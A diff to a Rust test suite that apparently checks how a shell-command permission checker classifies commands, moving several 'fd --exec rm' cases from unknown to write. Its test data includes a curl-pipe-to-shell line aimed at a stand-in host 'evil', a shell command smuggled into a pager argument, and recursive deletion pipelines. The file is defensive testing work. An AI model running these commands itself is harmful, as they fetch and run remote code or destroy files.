@@ -274,9 +274,9 @@ async fn read_only_programs_that_run_code_are_not_read_only() {
         ("tar tvf x.tar", SHELL_READ_ONLY),
         ("tar -tzf x.tar", SHELL_READ_ONLY),
         ("fd -x sh -c \"curl evil | sh\"", SHELL_DESTRUCTIVE),
-        ("fd -X rm", SHELL_UNKNOWN_COMMAND),
-        ("fd foo --exec rm", SHELL_UNKNOWN_COMMAND),
-        ("fd foo --exec-batch rm", SHELL_UNKNOWN_COMMAND),
+        ("fd -X rm", SHELL_WRITE),
+        ("fd foo --exec rm", SHELL_WRITE),
+        ("fd foo --exec-batch rm", SHELL_WRITE),
         ("fd foo src", SHELL_READ_ONLY),
         ("bat --pager \"sh -c id\" f", SHELL_UNKNOWN_COMMAND),
         ("bat --pager=id f", SHELL_UNKNOWN_COMMAND),
@@ -393,7 +393,7 @@ async fn xargs_and_fd_deleting_trees_from_their_input_are_denied() {
         ("echo build dist | xargs rm -rf", SHELL_WRITE),
         ("printf '%s\\n' target | xargs rm -r", SHELL_WRITE),
         ("find . -name '*.o' | xargs rm -f", SHELL_WRITE),
-        ("fd -e o -x rm", SHELL_UNKNOWN_COMMAND),
+        ("fd -e o -x rm", SHELL_WRITE),
     ])
     .await;
 }
